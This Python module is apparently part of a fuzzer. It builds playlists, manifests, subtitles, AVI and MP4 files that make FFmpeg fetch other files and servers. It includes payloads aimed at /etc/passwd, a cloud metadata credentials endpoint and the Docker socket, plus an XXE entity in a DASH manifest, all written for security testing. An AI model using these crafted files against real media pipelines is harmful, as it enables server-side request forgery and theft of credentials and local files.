"""Files that name other files and servers, in every language in which FFmpeg would follow them."""

import random
import struct

from fuzz.boxes import Box, file_bytes, parse

SECRETS = ("file:///etc/passwd", "/etc/passwd", "http://169.254.169.254/latest/meta-data/iam/", "unix:/run/docker.sock")


def playlist(rng: random.Random, urls: list[str]) -> bytes:
    """HLS, its segments, key, map and variants elsewhere."""
    url, *more = _some(rng, urls, 4)
    extras = [
        f'#EXT-X-KEY:METHOD=AES-128,URI="{more[0]}",IV=0x{0:032x}',
        f'#EXT-X-MAP:URI="{more[1]}"',
        f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="b",URI="{more[2]}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{url}',
        f"#EXT-X-BYTERANGE:10@0\n#EXTINF:1,\n{more[0]}",
        "",
    ]
    lines = ["#EXTM3U", "#EXT-X-VERSION:4", "#EXT-X-TARGETDURATION:5", "#EXT-X-MEDIA-SEQUENCE:0", rng.choice(extras)]
    return "\n".join([*lines, "#EXTINF:5.0,", url, "#EXTINF:5.0,", more[1], "#EXT-X-ENDLIST", ""]).encode()


def dash(rng: random.Random, urls: list[str]) -> bytes:
    base, segment, entity = _some(rng, urls, 3)
    return f"""<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "{entity}">]>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" minBufferTime="PT1S"
 profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><BaseURL>{base}</BaseURL><Period>
<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="16" height="16" codecs="avc1.42c00b">
<SegmentList duration="5"><Initialization sourceURL="{segment}"/><SegmentURL media="{segment}"/></SegmentList>
</Representation></AdaptationSet>&x;</Period></MPD>""".encode()


def concat(rng: random.Random, urls: list[str]) -> bytes:
    url, *more = _some(rng, urls, 3)
    option = rng.choice(["safe 0", "option protocol_whitelist ALL", "stream"])
    return f"ffconcat version 1.0\nfile '{url}'\n{option}\nfile '{more[0]}'\nduration 5\nfile {more[1]}\n".encode()


def subtitles(rng: random.Random, urls: list[str]) -> bytes:
    url, other = _some(rng, urls, 2)
    return rng.choice(
        [
            f"1\n00:00:00,000 --> 00:10:00,000\n<img src='{url}'>{{\\fn{other}}}\n\n",
            f"[Script Info]\nVideo File: {url}\nAudio File: {other}\n[Events]\n"
            "Dialogue: 0,0:00:00.00,0:10:00.00,,,,,,,x\n",
            f"WEBVTT\n\nSTYLE\n::cue {{ background: url({url}) }}\n\n00:00.000 --> 10:00.000\n{other}\n",
            f'<tt xmlns="http://www.w3.org/ns/ttml"><head><metadata src="{url}"/></head><body src="{other}"/></tt>',
            f'<SAMI><HEAD><link href="{url}"></HEAD><BODY><SYNC Start=0><P><img src="{other}"></BODY></SAMI>',
            f"# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\nalt: {url}\n"
            "timestamp: 00:00:00:000, filepos: 000000000\n",
        ]
    ).encode()


def session_description(rng: random.Random, urls: list[str]) -> bytes:
    url, other = _some(rng, urls, 2)
    return rng.choice(
        [
            f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{url}\n"
            "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
            f"[Reference]\nRef1={url}\nRef2={other}\n",
            f'<asx version="3.0"><entry><ref href="{url}"/><ref href="{other}"/></entry></asx>',
            f"[playlist]\nFile1={url}\nFile2={other}\nNumberOfEntries=2\n",
            f'<smil><head><meta base="{url}"/></head><body><video src="{other}"/></body></smil>',
            f'<SmoothStreamingMedia MajorVersion="2" Duration="0"><StreamIndex Type="video" Url="{url}"/>',
            f'<manifest xmlns="http://ns.adobe.com/f4m/1.0"><baseURL>{url}</baseURL><media url="{other}"/></manifest>',
            f"RTSPtext\n{url}\n",
        ]
    ).encode()


def filter_script(rng: random.Random, urls: list[str]) -> bytes:
    url, other = _some(rng, urls, 2)
    return rng.choice(
        [
            f"movie={url.replace(':', chr(92) + ':')},scale=16:16",
            f";FFMETADATA1\ntitle={url}\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND={10**18}\nfile={other}\n",
            f"{url}\n{other}\n",
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/><image href="{other}"/></svg>',
            f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({url})'\npop graphic-context\n",
        ]
    ).encode()


def playlist_inside_avi(rng: random.Random, urls: list[str]) -> bytes:
    """An AVI whose subtitle stream holds a playlist in a GAB2 chunk."""
    inner = rng.choice([playlist, concat, subtitles])(rng, urls)
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(inner)) + inner
    picture = struct.pack("<IiiHH4sIiiII", 40, 16, 16, 1, 24, b"MJPG", 768, 0, 0, 0, 0)
    streams = [
        _list(b"strl", _chunk(b"strh", _stream_header(b"vids", b"MJPG")), _chunk(b"strf", picture)),
        _list(b"strl", _chunk(b"strh", _stream_header(b"txts", b"\0\0\0\0")), _chunk(b"strf", b"")),
    ]
    main = struct.pack("<14I", 40_000, 10_000, 0, 0x110, 1, 0, 2, 0, 16, 16, 0, 0, 0, 0)
    movie = _list(b"movi", _chunk(b"01tx", gab2), _chunk(b"00dc", b"\xff\xd8\xff\xd9"))
    content = b"AVI " + _list(b"hdrl", _chunk(b"avih", main), *streams) + movie
    return _chunk(b"RIFF", content)


def elsewhere_in_mp4(rng: random.Random, urls: list[str], intact: bytes) -> bytes:
    """An MP4 whose samples lie in another file, says its data reference box."""
    file = parse(intact)
    url = rng.choice([*urls, *SECRETS])
    path = url.encode()
    alias = bytes(150) + struct.pack(">hH", 2, len(path)) + path + b"\0" * (len(path) % 2) + struct.pack(">hH", -1, 0)
    entry = rng.choice(
        [
            Box(b"url ", bytes(4) + path + b"\0"),
            Box(b"urn ", bytes(4) + b"x\0" + path + b"\0"),
            Box(b"alis", bytes(4) + alias),
            Box(b"rsrc", bytes(4) + alias),
        ]
    )
    for box in file.walk():
        if box.kind == b"dref":
            box.content = struct.pack(">II", 0, 1) + bytes(entry)
    if rng.random() < 0.3:
        reference = Box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(path) + 1) + path + b"\0")
        file.children = [file.children[0], Box(b"moov", bytes(Box(b"rmra", bytes(Box(b"rmda", bytes(reference))))))]
    return file_bytes(file)


def _some(rng: random.Random, urls: list[str], count: int) -> list[str]:
    """Beginning with a URL of the bait, mostly the plain one, so that who follows is seen."""
    first = urls[0] if rng.random() < 0.7 else rng.choice(urls)
    return [first, *rng.choices([*urls, *SECRETS], k=count - 1)]


def _stream_header(kind: bytes, handler: bytes) -> bytes:
    return struct.pack("<4s4sIHHIIIIIIIIHHHH", kind, handler, 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 16, 16)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def _list(kind: bytes, *chunks: bytes) -> bytes:
    return _chunk(b"LIST", kind + b"".join(chunks))
